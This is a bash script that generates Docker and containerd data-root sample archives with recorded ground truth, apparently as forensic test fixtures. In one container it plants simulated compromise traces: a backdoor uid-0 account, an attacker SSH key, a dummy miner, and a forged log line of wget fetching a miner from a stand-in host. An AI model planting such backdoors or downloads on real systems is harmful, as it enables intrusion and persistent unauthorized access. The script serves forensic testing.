#!/usr/bin/env bash
# make_containerd_samples.sh — regenerate the real Docker data-root samples that
# use the **containerd image store** (dockerd feature "containerd-snapshotter").
#
#   bash samples/make_containerd_samples.sh [containerd|containerd-system|all] [OUTDIR]
#
#   containerd         dockerd starts and supervises its OWN containerd, whose root
#                      is <data-root>/containerd/daemon -> one archive,
#                      samples/containerd/docker-root.tar.zst (members var/lib/docker/…)
#   containerd-system  a separately started containerd (root <seized>/var/lib/containerd,
#                      own state dir and socket), dockerd --containerd=<that socket>
#                      -> two archives, samples/containerd-system/docker-root.tar.zst
#                      (var/lib/docker/…) and containerd-root.tar.zst (var/lib/containerd/…)
#   all (default)      both, one after the other
#
# Like make_samples.sh: a PRIVATE dockerd (own data-root/exec-root/socket,
# --iptables=false), the scenario of samples/README.md (scaled down), ground
# truth through the Engine API (v1.45), the CLI and ctr while everything still
# runs, then a LIVE tar of the data-root(s); the daemons are stopped by PID.
# OUTDIR defaults to samples/<mode>/ and is replaced (only valid with one mode).
#
# Needs root on Debian 12 with busybox-static, zstd, python3 and bookworm's
# runc (/usr/sbin/runc). Debian 12's dockerd 20.10 ignores the feature, so the
# daemon comes from Debian 13 (trixie) packages docker.io 26.1, docker-cli,
# containerd 1.7, docker-buildx, unpacked (NOT installed) into $DOCKER26_ROOT
# (default /opt/docker26). If that folder is missing the script fetches the
# .debs with `apt-get download` through a PRIVATE apt state/cache/sources list
# under $TRIXIE_APT (default /opt/trixie); the system's apt config is untouched.
# trixie's runc needs glibc 2.38, hence bookworm's runc.
set -euo pipefail

MODE=${1:-all}
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
if [ "$MODE" = all ]; then
  [ -z "${2:-}" ] || { echo "OUTDIR only with a single mode" >&2; exit 2; }
  SECONDS=0
  bash "${BASH_SOURCE[0]}" containerd
  bash "${BASH_SOURCE[0]}" containerd-system
  echo "all done in ${SECONDS}s" >&2
  exit 0
fi
case "$MODE" in containerd|containerd-system) ;; *)
  echo "usage: make_containerd_samples.sh [containerd|containerd-system|all] [OUTDIR]" >&2; exit 2;; esac
OUT=${2:-$HERE/$MODE}
OUT=$(mkdir -p "$OUT" && cd "$OUT" && pwd)
FULL=0; [ "$MODE" = containerd ] && FULL=1    # containerd-system gets a smaller subset

D26=${DOCKER26_ROOT:-/opt/docker26}
TRIXIE_APT=${TRIXIE_APT:-/opt/trixie}
WORK=${SAMPLE_WORKDIR:-/tmp/docker-samples-$MODE}
SEIZED=$WORK/seized                  # tar runs here: archive members start with var/lib/…
DATAROOT=$SEIZED/var/lib/docker
EXECROOT=/run/docker-samples-$MODE   # short: unix socket paths are limited to 108 bytes
SOCK=$EXECROOT/docker.sock
if [ "$MODE" = containerd ]; then
  CROOT=$DATAROOT/containerd/daemon          # dockerd-managed containerd root
  CSOCK=$EXECROOT/containerd/containerd.sock # ... and its socket (under the exec-root)
else
  CROOT=$SEIZED/var/lib/containerd           # "system" containerd root
  CSTATE=/run/docker-samples-ctrd-sys        # its --state dir
  CSOCK=$CSTATE/containerd.sock
fi
export PATH=$D26/usr/sbin:$D26/usr/bin:/usr/sbin:/usr/bin:/sbin:/bin  # trixie first, then bookworm runc
DOCKERD=$D26/usr/sbin/dockerd
CONTAINERD=$D26/usr/bin/containerd
CTR=$D26/usr/bin/ctr
DOCKER_CLI=$D26/usr/bin/docker       # trixie's docker-cli, same version as the daemon
export DOCKER_HOST=unix://$SOCK
export DOCKER_CONFIG=$WORK/cli-config
export DOCKER_API_VERSION=1.45
unset DOCKER_CONTEXT DOCKER_TLS_VERIFY DOCKER_CERT_PATH BUILDX_BUILDER

[ "$(id -u)" = 0 ] || { echo "must run as root" >&2; exit 1; }
log() { printf '\n=== %s\n' "$*" >&2; }

# ------------------------------------------------ trixie binaries (once) -----
fetch_docker26() {
  log "fetching trixie docker.io/docker-cli/containerd/docker-buildx into $D26"
  mkdir -p "$TRIXIE_APT"/{state/lists/partial,cache/archives/partial,debs}
  echo "deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg] http://deb.debian.org/debian trixie main" \
    > "$TRIXIE_APT/sources.list"
  touch "$TRIXIE_APT/state/status"
  local APT=(apt-get -o "Dir::State=$TRIXIE_APT/state" -o "Dir::State::status=$TRIXIE_APT/state/status"
             -o "Dir::Cache=$TRIXIE_APT/cache" -o "Dir::Etc::SourceList=$TRIXIE_APT/sources.list"
             -o "Dir::Etc::SourceParts=/dev/null")
  "${APT[@]}" update
  (cd "$TRIXIE_APT/debs" && "${APT[@]}" download docker.io docker-cli containerd docker-buildx)
  mkdir -p "$D26"
  for f in "$TRIXIE_APT"/debs/*.deb; do dpkg-deb -x "$f" "$D26"; done
}
[ -x "$DOCKERD" ] && [ -x "$CONTAINERD" ] && [ -x "$DOCKER_CLI" ] || fetch_docker26
for t in "$DOCKERD" "$CONTAINERD" "$CTR" "$DOCKER_CLI" runc busybox zstd python3 tar; do
  command -v "$t" >/dev/null || { echo "missing $t" >&2; exit 1; }
done
case "$(command -v runc)" in "$D26"/*) echo "runc must be bookworm's, not trixie's" >&2; exit 1;; esac
if findmnt -rn -o TARGET | grep -q "^$WORK/"; then
  echo "$WORK still has mounts from an earlier run; refusing" >&2; exit 1
fi
if [ "$MODE" = containerd ] && [ -e /run/containerd/containerd.sock ]; then
  # dockerd auto-detects a system containerd at this path and would use it.
  echo "/run/containerd/containerd.sock exists: dockerd would not manage its own containerd" >&2
  exit 1
fi

d() { "$DOCKER_CLI" "$@"; }

DPID= ; CPID=
cleanup() {
  set +e
  if [ -n "$DPID" ] && kill -0 "$DPID" 2>/dev/null; then
    log "stopping dockerd (pid $DPID)"
    kill -TERM "$DPID"; wait "$DPID"
  fi
  if [ -n "$CPID" ] && kill -0 "$CPID" 2>/dev/null; then
    log "stopping containerd (pid $CPID)"
    kill -TERM "$CPID"; wait "$CPID"
  fi
  # dockerd/containerd unmount everything on shutdown; unmount anything left, deepest first
  findmnt -rn -o TARGET | grep -E "^($WORK|$EXECROOT|${CSTATE:-$EXECROOT})/" | sort -r |
    while read -r m; do umount -l "$m"; done
  if [ "${KEEP_WORK:-0}" != 1 ]; then
    rm -rf --one-file-system "$WORK" "$EXECROOT" "$EXECROOT.pid" ${CSTATE:+"$CSTATE"}
  fi
}
trap cleanup EXIT

SECONDS=0
rm -rf --one-file-system "$WORK" "$EXECROOT" ${CSTATE:+"$CSTATE"}
mkdir -p "$WORK" "$DATAROOT" "$EXECROOT" "$DOCKER_CONFIG/cli-plugins"
ln -s "$D26/usr/libexec/docker/cli-plugins/docker-buildx" "$DOCKER_CONFIG/cli-plugins/docker-buildx"
cat > "$WORK/daemon.json" <<'EOF'
{"features": {"containerd-snapshotter": true}}
EOF

# ---------------------------------------------------- system containerd -----
DOCKERD_EXTRA=()
if [ "$MODE" = containerd-system ]; then
  mkdir -p "$CROOT" "$CSTATE"
  # Same shape as Docker CE's containerd.io package config (CRI disabled).
  cat > "$WORK/containerd-config.toml" <<EOF
version = 2
root = "$CROOT"
state = "$CSTATE"
disabled_plugins = ["io.containerd.grpc.v1.cri"]

[grpc]
  address = "$CSOCK"
EOF
  log "starting system containerd (root $CROOT)"
  "$CONTAINERD" --config "$WORK/containerd-config.toml" >"$WORK/containerd.log" 2>&1 &
  CPID=$!
  for _ in $(seq 1 30); do "$CTR" -a "$CSOCK" version >/dev/null 2>&1 && break; sleep 1; done
  "$CTR" -a "$CSOCK" version >/dev/null || { tail -50 "$WORK/containerd.log" >&2; exit 1; }
  DOCKERD_EXTRA=(--containerd "$CSOCK")
fi

# ---------------------------------------------------------------- daemon ----
log "starting dockerd ($MODE)"
"$DOCKERD" --config-file "$WORK/daemon.json" \
  --data-root "$DATAROOT" --exec-root "$EXECROOT" --pidfile "$EXECROOT.pid" \
  --host "unix://$SOCK" --iptables=false "${DOCKERD_EXTRA[@]}" \
  --shutdown-timeout 3 >"$WORK/dockerd.log" 2>&1 &
DPID=$!
for _ in $(seq 1 60); do d version >/dev/null 2>&1 && break; sleep 1; done
d version >/dev/null || { tail -50 "$WORK/dockerd.log" >&2; exit 1; }
DVER=$(d version -f '{{.Server.Version}}')
DRIVER=$(d info -f '{{.Driver}}')
[ "$DRIVER" = overlayfs ] || { echo "expected containerd snapshotter overlayfs, got $DRIVER" >&2; exit 1; }
if [ "$MODE" = containerd ]; then
  grep -q 'starting managed containerd' "$WORK/dockerd.log" \
    || { echo "dockerd did not start its own containerd" >&2; exit 1; }
  [ -S "$CSOCK" ] || { echo "no managed containerd socket at $CSOCK" >&2; exit 1; }
fi
CVER=$("$CTR" -a "$CSOCK" version | awk '/^Server:/{s=1} s&&/Version:/{print $2; exit}')
log "dockerd $DVER up (pid $DPID), driver $DRIVER, containerd $CVER at $CSOCK"

# ------------------------------------------------------------ base image ----
# Case: imported image (history "Imported from -"), two tags on one image ID.
# Deterministic tar => same diffID every run (same as make_samples.sh).
log "base image"
BR=$WORK/baseroot
mkdir -p "$BR"/{bin,etc,tmp,root,dev,proc,sys,var/log,home/app}
cp /usr/bin/busybox "$BR/bin/busybox"
for a in sh ash ls cat echo sleep wget nc mkdir rm cp mv ln chmod chown touch \
         head tail tr seq printf id env grep sed awk httpd ps kill date true \
         false test dd gzip find sha256sum uname hostname stat xargs wc tee vi; do
  ln -s busybox "$BR/bin/$a"
done
cat > "$BR/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
app:x:1000:1000:app:/home/app:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
cat > "$BR/etc/group" <<'EOF'
root:x:0:
app:x:1000:
nogroup:x:65534:
EOF
chmod 1777 "$BR/tmp"; chmod 700 "$BR/root"; chown 1000:1000 "$BR/home/app"
tar -C "$BR" --sort=name --numeric-owner --owner=0 --group=0 \
    --mtime='2024-01-01 00:00:00Z' -cf "$WORK/base.tar" .
d import -m "busybox-static root for docker-root analyzer samples" \
  -c 'CMD ["/bin/sh"]' "$WORK/base.tar" base:1.0
d tag base:1.0 base:latest

mkdir -p "$OUT.tmp"; rm -rf "$OUT.tmp"; mkdir -p "$OUT.tmp/truth"
TRUTH=$OUT.tmp/truth

# ----------------------------------------------------- legacy build image ----
# Case: legacy builder (DOCKER_BUILDKIT=0 still works in 26 with the containerd
# store: intermediate images, parent label), whiteout, opaque dir, chmod-only,
# hardlink, symlink, ENV/LABEL/EXPOSE/VOLUME/WORKDIR/CMD.
log "legacy build app:legacy"
C=$WORK/ctx-legacy; mkdir -p "$C/d/sub" "$C/www"
printf 'alpha file\n' > "$C/a.txt"
printf 'same bytes in two layers\n' > "$C/dup.txt"
printf 'AWS_SECRET_ACCESS_KEY=not-a-real-key-EXAMPLE\n' > "$C/secret.txt"
printf 'old 1\n' > "$C/d/old1"; printf 'old 2\n' > "$C/d/sub/old2"
printf '<h1>sample</h1>\n' > "$C/www/index.html"
cat > "$C/run.sh" <<'EOF'
#!/bin/sh
# web-1's log generator (json-file, max-size=1k, max-file=3 => rotation)
echo "web starting on :8080"
echo "warning: config missing, using defaults" >&2
i=1
while [ $i -le 30 ]; do echo "GET /index.html 200 req=$i"; i=$((i+1)); done
printf 'tab\tseparated\tvalues\n'
echo 'non-ASCII: grüße – 日本語 – ✓'
echo 'stderr non-ASCII: ошибка ✗' >&2
printf 'invalid utf-8: \377\376 end\n'
# one 20000-byte line: json-file stores it as partial records (16 KiB + rest)
head -c 20000 /dev/zero | tr '\0' 'x'; echo
echo "error: upstream timeout" >&2
echo "serving"
exec httpd -f -p 8080 -h /app/www
EOF
cat > "$C/Dockerfile" <<'EOF'
FROM base:1.0
LABEL org.example.case="legacy-build" maintainer="samples@example.invalid"
ENV APP_HOME=/app APP_MODE=production
COPY a.txt dup.txt /app/
COPY secret.txt /app/secret.txt
COPY d/ /opt/d/
RUN rm /app/secret.txt
RUN rm -rf /opt/d && mkdir /opt/d && echo new > /opt/d/f
RUN chmod 0600 /app/a.txt
COPY dup.txt /app/dup.txt
RUN echo linked > /app/h1 && ln /app/h1 /app/h2 && ln -s /app/a.txt /app/link-to-a
COPY run.sh /app/run.sh
COPY www/ /app/www/
EXPOSE 8080
VOLUME /var/cache/app
WORKDIR /app
CMD ["/bin/sh", "/app/run.sh"]
EOF
DOCKER_BUILDKIT=0 d build -t app:legacy "$C" 2>&1 | tee "$TRUTH/build-app-legacy.log"

# ---------------------------------------------------- buildkit build image ----
# Case: BuildKit through buildx (trixie docker-buildx 0.13, builder "default",
# docker driver). With the containerd store the result is an OCI index with a
# provenance attestation manifest (buildx default).
log "buildkit build app:buildkit"
C=$WORK/ctx-bk; mkdir -p "$C"
printf 'hello from buildkit\n' > "$C/hello.txt"
cat > "$C/Dockerfile" <<'EOF'
FROM base:1.0
RUN mkdir -p /srv && echo "built by buildkit" > /srv/info.txt && echo tmp > /srv/gone.txt
COPY hello.txt /srv/hello.txt
RUN rm /srv/gone.txt
ENV BUILT_WITH=buildkit
LABEL org.example.case="buildkit-build"
CMD ["/bin/cat", "/srv/hello.txt"]
EOF
d buildx version > "$TRUTH/buildx-version.txt" 2>&1 || true
if ! DOCKER_BUILDKIT=1 d build --progress=plain -t app:buildkit "$C" \
      > "$TRUTH/build-app-buildkit.log" 2>&1; then
  echo "BUILDKIT FAILED (see truth/build-app-buildkit.log)" >&2
  echo "buildkit build failed" > "$TRUTH/BUILDKIT_FAILED"
fi

# ------------------------------------------------ dangling + committed -------
if [ $FULL = 1 ]; then
  log "dangling image"
  C=$WORK/ctx-tool; mkdir -p "$C"
  printf 'FROM base:1.0\nRUN echo v1 > /version.txt\nCMD ["cat","/version.txt"]\n' > "$C/Dockerfile"
  DOCKER_BUILDKIT=0 d build -t tool:dev "$C" 2>&1 | tee "$TRUTH/build-tool-dev-1.log"
  printf 'FROM base:1.0\nRUN echo v2 > /version.txt\nCMD ["cat","/version.txt"]\n' > "$C/Dockerfile"
  DOCKER_BUILDKIT=0 d build -t tool:dev "$C" 2>&1 | tee "$TRUTH/build-tool-dev-2.log"
fi

# -------------------------------------------------------------- volumes -----
log "volumes"
d volume create data
if [ $FULL = 1 ]; then
  d volume create orphan
  d volume create --label case=labeled --label owner=samples labeled
  d volume create --driver local --opt type=tmpfs --opt device=tmpfs \
    --opt o=size=1m,uid=1000 tmpfs-opts
fi

# ----------------------------------------------------------- containers -----
log "containers"
d run -d --name web-1 --log-opt max-size=1k --log-opt max-file=3 \
  -p 127.0.0.1:18080:8080 app:legacy

d run --name exited-0 base:1.0 sh -c 'echo hello > /tmp/out.txt; echo bye; exit 0' || true
[ $FULL = 1 ] && { d run --name exited-1 base:1.0 sh -c 'echo "fatal: boom" >&2; exit 1' || true; }

d create --name created-only -e FOO=bar app:legacy

d run -d --name vol-user -v data:/mnt/data app:legacy sh -c '
  echo payload > /mnt/data/file1.txt; mkdir -p /mnt/data/sub
  echo nested > /mnt/data/sub/file2.txt; echo anon > /var/cache/app/cached.txt
  echo "volumes written"; exec sleep 86400'

d run -d --name intruder base:1.0 sh -c 'echo "intruder container up"; exec sleep 86400'
sleep 1
d exec intruder sh -c 'mkdir -p /tmp/.x && printf "#!/bin/sh\nwhile :; do :; done\n" > /tmp/.x/miner && chmod 755 /tmp/.x/miner'
d exec intruder sh -c 'echo "toor:x:0:0:root:/root:/bin/sh" >> /etc/passwd'
d exec intruder sh -c 'mkdir -p /root/.ssh && chmod 700 /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE attacker@evil.example" > /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys'
d exec intruder rm /etc/group
d exec intruder sh -c 'echo "+ wget -q -O /tmp/.x/miner http://203.0.113.7/x86_64/miner" > /proc/1/fd/1; echo "wget: cannot connect to remote host (203.0.113.7): Network unreachable" > /proc/1/fd/2'
d exec intruder sh -c 'echo "stash" > /dev/shm/.cache-x && chmod 755 /dev/shm/.cache-x'

if [ $FULL = 1 ]; then
  d run --name web-gz --log-opt max-size=1k --log-opt max-file=3 \
    --log-opt compress=true base:1.0 sh -c '
    i=1; while [ $i -le 120 ]; do echo "gz line $i lorem ipsum dolor sit amet"; i=$((i+1)); done
    echo "gz done" >&2' || true

  d run --name local-log --log-driver local base:1.0 sh -c '
    echo "local out 1"; echo "local err 1" >&2; printf "local\ttab\n"
    echo "local non-ASCII: café"; echo "local err 2" >&2' || true

  # priv: RUNNING --privileged (dockerd 26 only grants the capabilities in its own
  # bounding set; this VM lacks CAP_SYS_RESOURCE, which made 20.10's runc fail).
  # allcaps drops NET_RAW: 26 rejects --cap-drop of an unavailable cap (SYS_RESOURCE).
  d run -d --privileged --name priv base:1.0 sleep 86400
  d run -d --name allcaps --cap-add ALL --cap-drop NET_RAW --pid host \
    --security-opt seccomp=unconfined --restart always base:1.0 sleep 86400

  if [ -S /var/run/docker.sock ]; then SOCKSRC=/var/run/docker.sock; else SOCKSRC=$SOCK; fi
  d run -d --name hostmount -v /:/host:ro -v "$SOCKSRC":/var/run/docker.sock \
    base:1.0 sleep 86400

  d network create --label case=user-network backend
  d run -d --name net-user --network backend --network-alias api \
    --network-alias api.internal base:1.0 sleep 86400

  d run -d --name paused base:1.0 sleep 86400
  d pause paused || echo "PAUSE FAILED" | tee "$TRUTH/PAUSE_FAILED" >&2

  d commit -a "samples <samples@example.invalid>" -m "snapshot of exited-0" \
    -c 'LABEL org.example.case=commit' exited-0 snap:exited-0
fi

sleep 3   # let json-file finish compressing rotations, web-1 reach httpd

# ---------------------------------------------------------- ground truth -----
log "recording ground truth"
python3 "$HERE/record_ground_truth.py" api --socket "$SOCK" --out "$TRUTH" \
  --data-root "$DATAROOT" --driver "$DRIVER" --api-version 1.45 \
  --image-store containerd --containerd-root "${CROOT#"$SEIZED"/}" \
  --containerd-root-abs "$CROOT" --containerd-version "$CVER" \
  --containerd-mode "$([ "$MODE" = containerd ] && echo managed || echo system)"
d ps -a > "$TRUTH/docker-ps-a.txt"
d ps -a -s --no-trunc > "$TRUTH/docker-ps-a-s-no-trunc.txt"
d images -a > "$TRUTH/docker-images-a.txt"
d images -a --digests --no-trunc > "$TRUTH/docker-images-a-no-trunc.txt"
d images -f dangling=true --no-trunc > "$TRUTH/docker-images-dangling.txt"
d system df -v > "$TRUTH/docker-system-df-v.txt"
d buildx du --verbose > "$TRUTH/docker-buildx-du-verbose.txt" 2>&1 || true
for n in $(d ps -a --format '{{.Names}}'); do
  # NB: with the containerd store every /changes (docker diff) creates and then
  # removes a view snapshot "<id>-parent-view" => gaps in snapshot numbering.
  d diff "$n" > "$TRUTH/docker-diff-$n.txt" 2>&1 || true
  if [ "$(d inspect -f '{{.State.StartedAt}}' "$n")" = 0001-01-01T00:00:00Z ]; then
    : > "$TRUTH/logs-$n.stdout"; : > "$TRUTH/logs-$n.stderr"
    : > "$TRUTH/logs-$n.ts.stdout"; : > "$TRUTH/logs-$n.ts.stderr"
    continue
  fi
  d logs "$n" > "$TRUTH/logs-$n.stdout" 2> "$TRUTH/logs-$n.stderr" || true
  d logs --timestamps "$n" > "$TRUTH/logs-$n.ts.stdout" 2> "$TRUTH/logs-$n.ts.stderr" || true
done

# containerd's own view (read-only ctr calls), last, right before the tar.
c() { "$CTR" -a "$CSOCK" "$@"; }
c version > "$TRUTH/ctr-version.txt"
c namespaces ls > "$TRUTH/ctr-namespaces.txt"
for ns in $(c namespaces ls -q); do
  c -n "$ns" images ls > "$TRUTH/ctr-$ns-images.txt"
  c -n "$ns" content ls > "$TRUTH/ctr-$ns-content.txt"
  c -n "$ns" snapshots --snapshotter overlayfs ls > "$TRUTH/ctr-$ns-snapshots.txt"
  c -n "$ns" snapshots --snapshotter overlayfs usage > "$TRUTH/ctr-$ns-snapshots-usage.txt"
  # one JSON document per snapshot key (kind, parent, labels, created/updated)
  { echo '['; first=1
    for k in $(c -n "$ns" snapshots --snapshotter overlayfs ls | awk 'NR>1{print $1}'); do
      [ $first = 1 ] || echo ','; first=0
      c -n "$ns" snapshots --snapshotter overlayfs info "$k"
    done; echo ']'; } > "$TRUTH/ctr-$ns-snapshots-info.json"
  c -n "$ns" leases ls > "$TRUTH/ctr-$ns-leases.txt"
  c -n "$ns" containers ls > "$TRUTH/ctr-$ns-containers.txt"
  c -n "$ns" tasks ls > "$TRUTH/ctr-$ns-tasks.txt"
done
python3 -m json.tool "$TRUTH/ctr-moby-snapshots-info.json" > /dev/null

# -------------------------------------------------------------- snapshot -----
# Live tar(s): daemons and containers running, rootfs mounted.
ZSTD_CMD="zstd -19 -T0 -q"
take() {   # take <archive> <member path under SEIZED> [--key-prefix P]
  local arc=$1 what=$2; shift 2
  local cmd="tar --xattrs --xattrs-include='*' --numeric-owner -C $SEIZED -cf - $what"
  log "tarring live $what -> $(basename "$arc")"
  set +e
  tar --xattrs --xattrs-include='*' --numeric-owner -C "$SEIZED" -cf - "$what" \
    2> "$WORK/tar.stderr" | $ZSTD_CMD -o "$arc"
  local rcs=("${PIPESTATUS[@]}")
  set -e
  cat "$WORK/tar.stderr" >&2
  if [ "${rcs[0]}" -gt 1 ] || [ "${rcs[1]}" -ne 0 ]; then
    echo "tar/zstd failed: ${rcs[*]}" >&2; exit 1
  fi
  python3 "$HERE/record_ground_truth.py" finalize --out "$TRUTH" \
    --archive "$arc" --tar-command "$cmd" --compress-command "$ZSTD_CMD" \
    --tar-exit-code "${rcs[0]}" "$@"
}
if [ "$MODE" = containerd ]; then
  take "$OUT.tmp/docker-root.tar.zst" var
  cp "$WORK/tar.stderr" "$TRUTH/tar.stderr"
else
  take "$OUT.tmp/docker-root.tar.zst" var/lib/docker
  cp "$WORK/tar.stderr" "$TRUTH/tar.stderr"
  take "$OUT.tmp/containerd-root.tar.zst" var/lib/containerd --key-prefix containerd_
  cp "$WORK/tar.stderr" "$TRUTH/tar-containerd.stderr"
fi

# ------------------------------------------------------------ stop + swap -----
log "stopping dockerd"
kill -TERM "$DPID"; wait "$DPID" || true; DPID=
if [ -n "$CPID" ]; then
  log "stopping containerd"
  kill -TERM "$CPID"; wait "$CPID" || true; CPID=
  cp "$WORK/containerd.log" "$TRUTH/containerd.log"
fi
cp "$WORK/dockerd.log" "$TRUTH/dockerd.log"
python3 "$HERE/record_ground_truth.py" finalize --out "$TRUTH" --elapsed-seconds "$SECONDS"
rm -rf "$OUT"; mv "$OUT.tmp" "$OUT"
log "done: $OUT in ${SECONDS}s"
ls -la "$OUT" >&2
